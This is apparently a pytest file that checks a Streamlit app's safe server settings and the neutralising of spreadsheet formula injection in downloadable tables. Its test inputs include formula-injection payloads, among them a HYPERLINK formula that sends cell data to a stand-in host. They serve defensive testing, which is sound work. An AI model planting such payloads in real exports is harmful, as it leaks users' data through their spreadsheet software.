"""Safe defaults: the app's server settings and the cells of downloadable tables."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pandas as pd
import pytest

from checks.loading import APP_LIMITS
from safety.cells import safe_cell, safe_frame, safe_rows

CONFIG = tomllib.loads((Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml").read_text())


def test_the_server_listens_on_loopback_with_xsrf_and_without_error_details():
    assert CONFIG["server"]["address"] == "127.0.0.1"
    assert CONFIG["server"]["enableXsrfProtection"] is True
    assert CONFIG["client"]["showErrorDetails"] == "none"
    assert CONFIG["browser"]["gatherUsageStats"] is False


def test_the_upload_limit_is_the_loaders_byte_limit():
    assert CONFIG["server"]["maxUploadSize"] * 1024 * 1024 == APP_LIMITS.max_bytes


def test_the_page_icon_is_bundled():
    app = (Path(__file__).resolve().parents[2] / "app.py").read_text()
    assert 'page_icon=str(Path(__file__).parent / "ui" / "assets" / "icon.png")' in app
    assert (Path(__file__).resolve().parents[2] / "ui" / "assets" / "icon.png").read_bytes()[:4] == b"\x89PNG"


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_text_starting_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain note", "", " =1", 5, -3.5, None])
def test_other_values_are_untouched(value):
    assert safe_cell(value) == value


def test_rows_and_frames_keep_numbers_and_neutralise_text_and_headers():
    assert safe_rows([{"Note": "=cmd", "Overall": -4}]) == [{"Note": "'=cmd", "Overall": -4}]
    frame = pd.DataFrame({"=label": ["@x", "ok", None], "n": [-1, 2, 3]})
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=label", "n"]
    assert safe["'=label"].tolist()[:2] == ["'@x", "ok"] and pd.isna(safe["'=label"].iloc[2])
    assert safe["n"].tolist() == [-1, 2, 3]
    assert list(frame.columns) == ["=label", "n"]  # the original is not changed
